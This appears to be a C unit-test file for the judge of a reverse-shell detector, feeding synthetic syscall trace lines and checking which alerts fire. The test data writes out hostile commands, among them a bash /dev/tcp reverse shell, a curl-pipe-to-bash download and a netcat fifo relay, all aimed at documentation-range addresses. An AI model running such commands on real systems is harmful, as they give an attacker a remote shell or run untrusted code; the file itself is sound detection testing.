@@ -1,0 +1,323 @@
+/* test_judge.c: the judge (user/judge/) on events written as trace lines, the way `record` writes
+ * them (docs/trace-format.md): which signals fire, one alert per remote shell, holds and
+ * absorption in event time, relays, the /proc scan, entity ids, and what must not alert (an
+ * ssh-like login, a plain command, curl | sh). No BPF: it links against the core library only. */
+#include <stdlib.h>
+#include <string.h>
+#include "judge.h"
+#include "score.h"
+#include "tap.h"
+#include "trace_read.h"
+
+#define MAX_ALERTS 8
+
+static struct alert got[MAX_ALERTS];
+static unsigned ngot;
+
+static void collect(void *ctx, struct alert *a)
+{
+	(void)ctx;
+	if (ngot < MAX_ALERTS)
+		got[ngot] = *a;
+	ngot++;
+}
+
+static struct judge *fresh(bool scoring)
+{
+	static struct ruleset rs;
+	char err[256];
+	struct judge_opts o = judge_opts_default();
+
+	if (!rs.nrules && rules_load_default(&rs, err, sizeof(err)))
+		return NULL;
+	o.rules = &rs;
+	o.on_alert = collect;
+	if (scoring) {
+		o.model = score_model_default();
+		o.threshold = o.model ? o.model->threshold : 0.5;
+	}
+	ngot = 0;
+	return judge_new(&o);
+}
+
+/* Feed trace lines, one per line of text; a line that does not parse fails the test. */
+static void feed(struct judge *j, const char *text)
+{
+	char *copy = strdup(text), *save = NULL;
+
+	for (char *l = strtok_r(copy, "\n", &save); l; l = strtok_r(NULL, "\n", &save)) {
+		struct sw_event ev;
+		const char *why = "";
+		int r = trace_parse_line(NULL, l, strlen(l), &ev, &why);
+
+		CHECKF(r >= 0, "bad line '%s': %s", l, why);
+		if (r > 0)
+			judge_event(j, &ev);
+	}
+	free(copy);
+}
+
+/* python -c 'connect; dup2 x3; subprocess sh': one alert, on the shell, with the peer. */
+static void test_reverse_shell_child(void)
+{
+	struct judge *j = fresh(false);
+
+	CHECK(j != NULL);
+	feed(j, "# shellwatch-trace 1 host=box boot_id=b-1\n"
+		"execve pid=100 ppid=1 uid=0 t=1000 start=500 comm=python3 exe=/usr/bin/python3 argv=\"python3 x.py\" fd0=tty fd1=tty fd2=tty => 0\n"
+		"connect pid=100 ppid=1 uid=0 t=2000 start=500 comm=python3 fd=3 family=inet addr=10.1.2.3 port=4444 => 0\n"
+		"dup2 pid=100 ppid=1 uid=0 t=3000 start=500 comm=python3 fd=3 newfd=0 sock=1 => 0\n"
+		"dup2 pid=100 ppid=1 uid=0 t=3100 start=500 comm=python3 fd=3 newfd=1 sock=1 => 1\n"
+		"dup2 pid=100 ppid=1 uid=0 t=3200 start=500 comm=python3 fd=3 newfd=2 sock=1 => 2\n"
+		"fork pid=100 ppid=1 uid=0 t=4000 start=500 comm=python3 child=101\n"
+		"execve pid=101 ppid=100 uid=0 t=5000 start=4000 comm=sh exe=/bin/sh argv=\"sh -i\" pstart=500 fd0=sock:inet fd1=sock:inet fd2=sock:inet peer0=10.1.2.3:4444 local0=10.0.0.2:40000 peer1=10.1.2.3:4444 local1=10.0.0.2:40000 peer2=10.1.2.3:4444 local2=10.0.0.2:40000 => 0\n");
+	CHECKF(ngot == 1, "%u alerts", ngot);
+	CHECK(got[0].pid == 101 && got[0].ppid == 100);
+	CHECKF((got[0].signals & (SIG_RULE | SIG_STDIO_SOCKET | SIG_PARENT_SOCKET)) ==
+		       (SIG_RULE | SIG_STDIO_SOCKET | SIG_PARENT_SOCKET), "signals %x", got[0].signals);
+	CHECK(got[0].has_peer && got[0].peer.pport == 4444 && got[0].peer.lport == 40000);
+	CHECK(!strcmp(got[0].cmd, "sh -i") && !strcmp(got[0].exe, "/bin/sh"));
+	CHECK(!strcmp(got[0].host, "box") && got[0].exec_ns == 5000 && got[0].decided_ns == 5000);
+	CHECKF(got[0].nmatched >= 5, "%u matched", got[0].nmatched);
+	CHECK(strlen(got[0].entity_id) == 16 && strlen(got[0].parent_entity_id) == 16 &&
+	      strcmp(got[0].entity_id, got[0].parent_entity_id));
+	/* The attacker's commands run by that shell are the same episode. */
+	feed(j, "fork pid=101 ppid=100 uid=0 t=6000 start=4000 comm=sh child=102\n"
+		"execve pid=102 ppid=101 uid=0 t=7000 start=6000 comm=id exe=/usr/bin/id argv=id fd0=sock:inet peer0=10.1.2.3:4444 => 0\n");
+	CHECKF(ngot == 1, "%u alerts after the shell's child", ngot);
+	judge_free(j);
+}
+
+/* The entity id depends on boot id, pid and start tick only, not on where it came from. */
+static void test_entity_id(void)
+{
+	char a[24], b[24], c[24], d[24], e[24];
+
+	judge_entity_id(a, sizeof(a), "boot-1", 42, 1230000000ull);
+	judge_entity_id(b, sizeof(b), "boot-1", 42, 1230000001ull);  /* same tick */
+	judge_entity_id(c, sizeof(c), "boot-2", 42, 1230000000ull);
+	judge_entity_id(d, sizeof(d), "boot-1", 43, 1230000000ull);
+	judge_entity_id(e, sizeof(e), "boot-1", 42, 0);
+	CHECK(!strcmp(a, b) && strcmp(a, c) && strcmp(a, d) && strlen(a) == 16);
+	CHECK(e[0] == '\0');
+}
+
+/* python pty.spawn: the shell's stdio is a terminal, its parent's is the socket. */
+static void test_pty_shell(void)
+{
+	struct judge *j = fresh(false);
+
+	feed(j, "execve pid=200 ppid=1 t=1 comm=python3 exe=/usr/bin/python3 argv=\"python3 p.py\" fd0=tty fd1=tty fd2=tty => 0\n"
+		"connect pid=200 ppid=1 t=2 comm=python3 fd=3 family=inet addr=10.9.9.9 port=53 => -115\n"
+		"dup2 pid=200 ppid=1 t=3 fd=3 newfd=0 sock=1 => 0\n"
+		"dup2 pid=200 ppid=1 t=4 fd=3 newfd=1 sock=1 => 1\n"
+		"dup2 pid=200 ppid=1 t=5 fd=3 newfd=2 sock=1 => 2\n"
+		"fork pid=200 ppid=1 t=6 child=201\n"
+		"execve pid=201 ppid=200 t=7 comm=bash exe=/bin/bash argv=bash fd0=tty fd1=tty fd2=tty => 0\n");
+	CHECKF(ngot == 1, "%u alerts", ngot);
+	CHECK(ngot && got[0].pid == 201 && (got[0].signals & SIG_PARENT_SOCKET));
+	CHECK(ngot && !(got[0].signals & SIG_STDIO_SOCKET) && got[0].peer.pport == 53);
+	CHECK(ngot && !got[0].has_uid);   /* no uid= in the lines: unknown, not 0 */
+	judge_free(j);
+}
+
+/* An sshd-like parent that accepted a connection starts a login shell on a terminal: no alert. */
+static void test_login_is_quiet(void)
+{
+	struct judge *j = fresh(true);
+
+	feed(j, "execve pid=300 ppid=1 uid=0 t=1 comm=sshd exe=/usr/sbin/sshd argv=\"sshd: alice [priv]\" fd0=other fd1=other fd2=other => 0\n"
+		"accept4 pid=300 ppid=1 uid=0 t=2 comm=sshd fd=3 family=inet addr=192.0.2.7 port=51000 local=10.0.0.1:22 => 4\n"
+		"fork pid=300 ppid=1 uid=0 t=3 comm=sshd child=301\n"
+		"execve pid=301 ppid=300 uid=1000 t=4 comm=bash exe=/bin/bash argv=-bash fd0=tty fd1=tty fd2=tty => 0\n"
+		"fork pid=301 ppid=300 uid=1000 t=5 comm=bash child=302\n"
+		"execve pid=302 ppid=301 uid=1000 t=6 comm=ls exe=/usr/bin/ls argv=\"ls -la\" fd0=tty fd1=tty fd2=tty => 0\n");
+	judge_tick(j, 2000000000ull);
+	CHECKF(ngot == 0, "%u alerts", ngot);
+	judge_free(j);
+	CHECKF(ngot == 0, "%u alerts after free", ngot);
+}
+
+/* A malicious-looking command alone is held for 200 ms of event time, then reported once. */
+static void test_score_only_is_held(void)
+{
+	struct judge *j = fresh(true);
+
+	if (!score_model_default()) {
+		CHECKF(0, "no embedded model");
+		return;
+	}
+	feed(j, "execve pid=400 ppid=1 t=1000000000 comm=bash exe=/bin/bash argv=\"bash -c curl -s http://203.0.113.5:8080/x.sh | bash\" fd0=tty fd1=tty fd2=tty => 0\n");
+	judge_tick(j, 1100000000ull);
+	CHECKF(ngot == 0, "%u alerts before the hold ran out", ngot);
+	/* an unrelated event after the hold: time moved on, the held alert goes out first */
+	feed(j, "fork pid=1 ppid=0 t=1300000000 child=999\n");
+	CHECKF(ngot == 1, "%u alerts after the hold", ngot);
+	CHECK(ngot && got[0].pid == 400 && got[0].signals == SIG_SCORE && got[0].score >= 0);
+	CHECKF(ngot && got[0].decided_ns == 1200000000ull, "decided at %llu",
+	       (unsigned long long)got[0].decided_ns);
+	judge_free(j);
+	CHECKF(ngot == 1, "%u alerts after free", ngot);
+}
+
+/* bash -c 'bash -i >& /dev/tcp/..': the suspicious parent is absorbed by the confirmed child. */
+static void test_confirmed_absorbs_held(void)
+{
+	struct judge *j = fresh(true);
+
+	feed(j, "execve pid=500 ppid=1 t=1000 comm=bash exe=/bin/bash argv=\"bash -c bash -i >& /dev/tcp/198.51.100.1/9001 0>&1\" fd0=tty fd1=tty fd2=tty => 0\n"
+		"fork pid=500 ppid=1 t=2000 child=501\n"
+		"connect pid=501 ppid=500 t=3000 fd=3 family=inet addr=198.51.100.1 port=9001 => 0\n"
+		"dup2 pid=501 ppid=500 t=3100 fd=3 newfd=1 sock=1 => 1\n"
+		"dup2 pid=501 ppid=500 t=3200 fd=1 newfd=2 sock=1 => 2\n"
+		"dup2 pid=501 ppid=500 t=3300 fd=1 newfd=0 sock=1 => 0\n"
+		"execve pid=501 ppid=500 t=4000 comm=bash exe=/bin/bash argv=\"bash -i\" fd0=sock:inet fd1=sock:inet fd2=sock:inet peer0=198.51.100.1:9001 local0=10.0.0.2:5000 => 0\n");
+	judge_tick(j, 2000000000ull);
+	CHECKF(ngot == 1, "%u alerts", ngot);
+	CHECK(ngot && got[0].pid == 501 && (got[0].signals & SIG_PARENT_SCORE) &&
+	      (got[0].signals & SIG_STDIO_SOCKET) && (got[0].signals & SIG_RULE));
+	CHECK(ngot && !strcmp(got[0].pcmd, "bash -c bash -i >& /dev/tcp/198.51.100.1/9001 0>&1"));
+	CHECK(ngot && !strcmp(got[0].rule, "reverse-shell-chain"));
+	judge_free(j);
+	CHECKF(ngot == 1, "%u alerts after free", ngot);
+}
+
+static void test_exit_frees(void)
+{
+	struct judge *j = fresh(false);
+	struct judge_stats st;
+	char line[512];
+
+	for (uint32_t pid = 600; pid < 700; pid++) {
+		snprintf(line, sizeof(line),
+			 "fork pid=1 ppid=0 t=%u child=%u\n"
+			 "execve pid=%u ppid=1 t=%u exe=/bin/true argv=true fd0=pipe fd1=pipe fd2=pipe => 0\n"
+			 "exit pid=%u ppid=1 t=%u code=0\n", pid * 10, pid, pid, pid * 10 + 1, pid, pid * 10 + 2);
+		feed(j, line);
+	}
+	judge_stats(j, &st);
+	CHECKF(st.procs.live == 1 && st.procs.max_live >= 2, "live %llu max %llu",
+	       (unsigned long long)st.procs.live, (unsigned long long)st.procs.max_live);
+	CHECK(st.execs == 100 && ngot == 0);
+	judge_free(j);
+}
+
+/* Processes found in /proc at the start: a reverse shell already running is alerted once (not
+ * again for its child); a shell on a terminal is not. */
+static void test_proc_scan(void)
+{
+	struct judge *j = fresh(false);
+
+	feed(j, "proc pid=800 ppid=1 uid=1000 t=10 start=5 comm=bash exe=/usr/bin/bash argv=\"bash -i\" fd0=sock:inet fd1=sock:inet fd2=sock:inet peer0=192.0.2.9:443 local0=10.0.0.2:5000\n");
+	CHECKF(ngot == 1, "%u alerts", ngot);
+	CHECK(ngot && got[0].pid == 800 && got[0].uid == 1000 && got[0].signals == SIG_STDIO_SOCKET);
+	CHECK(ngot && got[0].peer.pport == 443 && !strcmp(got[0].exe, "/usr/bin/bash"));
+	CHECK(ngot && got[0].exec_ns == got[0].decided_ns);
+	feed(j, "proc pid=801 ppid=800 uid=1000 t=10 comm=sh exe=/usr/bin/bash argv=\"bash -i\" fd0=sock:inet peer0=192.0.2.9:443\n");
+	CHECKF(ngot == 1, "%u alerts after the child", ngot);
+	feed(j, "proc pid=900 ppid=1 uid=1000 t=10 comm=python3 exe=/usr/bin/python3 argv=\"python3 x.py\" fd0=sock:inet peer0=192.0.2.9:443\n");
+	CHECKF(ngot == 2, "%u alerts for another tree", ngot);
+	feed(j, "proc pid=950 ppid=1 uid=1000 t=10 comm=bash exe=/usr/bin/bash argv=-bash fd0=tty fd1=tty fd2=tty\n");
+	CHECKF(ngot == 2, "%u alerts after a terminal shell", ngot);
+	/* an event said more already: the scan's line changes nothing */
+	feed(j, "execve pid=960 ppid=1 t=11 comm=cat exe=/bin/cat argv=cat fd0=tty fd1=tty fd2=tty => 0\n"
+		"proc pid=960 ppid=1 t=12 comm=sh exe=/bin/sh argv=sh fd0=sock:inet peer0=192.0.2.9:443\n");
+	CHECKF(ngot == 2, "%u alerts after a stale scan line", ngot);
+	judge_free(j);
+}
+
+/* sh -i < fifo | nc host port > fifo, with a renamed nc and the connect before or after the shell's
+ * exec: a pipe-relay alert on the shell. curl | sh (one way) is not one. */
+static void test_pipe_relay(void)
+{
+	static const char *const sh =
+		"execve pid=1001 ppid=1000 t=%d exe=/bin/sh argv=\"/bin/sh -i\" fd0=fifo fd1=pipe fd2=pipe pipe0=26:777 pipe1=13:4242 pipe2=13:4242 => 0\n";
+	static const char *const nc =
+		"execve pid=1002 ppid=1000 t=%d exe=/tmp/x argv=\"x 203.0.113.9 4444\" fd0=pipe fd1=fifo fd2=tty pipe0=13:4242 pipe1=26:777 => 0\n";
+	static const char *const conn =
+		"connect pid=1002 ppid=1000 t=%d fd=3 family=inet addr=203.0.113.9 port=4444 => 0\n";
+	char buf[1024];
+
+	for (int connect_first = 0; connect_first < 2; connect_first++) {
+		struct judge *j = fresh(false);
+
+		if (connect_first) {
+			snprintf(buf, sizeof(buf), nc, 1), feed(j, buf);
+			snprintf(buf, sizeof(buf), conn, 2), feed(j, buf);
+			snprintf(buf, sizeof(buf), sh, 3), feed(j, buf);
+		} else {
+			snprintf(buf, sizeof(buf), sh, 1), feed(j, buf);
+			snprintf(buf, sizeof(buf), nc, 2), feed(j, buf);
+			CHECKF(ngot == 0, "%u alerts before the connect", ngot);
+			snprintf(buf, sizeof(buf), conn, 3), feed(j, buf);
+		}
+		CHECKF(ngot == 1, "connect_first=%d: %u alerts", connect_first, ngot);
+		CHECK(ngot && got[0].pid == 1001 && (got[0].signals & SIG_PIPE_RELAY));
+		CHECK(ngot && got[0].has_peer && got[0].peer.pport == 4444);
+		judge_free(j);
+	}
+
+	struct judge *j = fresh(false);
+
+	feed(j, "execve pid=1011 ppid=1010 t=1 exe=/usr/bin/curl argv=\"curl -s http://203.0.113.9/i\" fd0=tty fd1=pipe fd2=tty pipe1=13:5151 => 0\n"
+		"execve pid=1012 ppid=1010 t=2 exe=/bin/sh argv=sh fd0=pipe fd1=tty fd2=tty pipe0=13:5151 => 0\n"
+		"connect pid=1011 ppid=1010 t=3 fd=3 family=inet addr=203.0.113.9 port=80 => 0\n");
+	CHECKF(ngot == 0, "curl | sh: %u alerts", ngot);
+	judge_free(j);
+}
+
+/* Without stdio facts (strace without -yy, auditd), stdio follows forks and dups. */
+static void test_stdio_from_dups(void)
+{
+	struct judge *j = fresh(false);
+
+	feed(j, "connect pid=50 ppid=1 t=1 fd=3 family=inet addr=127.0.0.1 port=9001 => 0\n"
+		"dup2 pid=50 ppid=1 t=2 fd=3 newfd=0 => 0\n"
+		"execve pid=50 ppid=1 t=3 exe=/bin/cat argv=cat => 0\n");
+	CHECKF(ngot == 1, "%u alerts", ngot);
+	CHECK(ngot && (got[0].signals & SIG_STDIO_SOCKET) && got[0].peer.pport == 9001);
+	judge_free(j);
+}
+
+/* Documentation and table agree: docs/run.md has every signal row the table prints. */
+static void test_signal_docs(void)
+{
+	char *buf = NULL, *doc = NULL, line[4096];
+	size_t len = 0, dlen = 0;
+	FILE *m = open_memstream(&buf, &len), *f = fopen("docs/run.md", "r");
+
+	CHECK(m && f);
+	if (!m || !f)
+		return;
+	signals_doc(m);
+	fclose(m);
+	{
+		FILE *d = open_memstream(&doc, &dlen);
+		size_t n;
+
+		while ((n = fread(line, 1, sizeof(line), f)) > 0)
+			fwrite(line, 1, n, d);
+		fclose(d);
+	}
+	fclose(f);
+	for (char *save = NULL, *l = strtok_r(buf, "\n", &save); l; l = strtok_r(NULL, "\n", &save))
+		CHECKF(strstr(doc, l) != NULL, "docs/run.md lacks: %s", l);
+	free(buf);
+	free(doc);
+}
+
+int main(void)
+{
+	RUN(test_reverse_shell_child);
+	RUN(test_entity_id);
+	RUN(test_pty_shell);
+	RUN(test_login_is_quiet);
+	RUN(test_score_only_is_held);
+	RUN(test_confirmed_absorbs_held);
+	RUN(test_exit_frees);
+	RUN(test_proc_scan);
+	RUN(test_pipe_relay);
+	RUN(test_stdio_from_dups);
+	RUN(test_signal_docs);
+	return tap_done();
+}
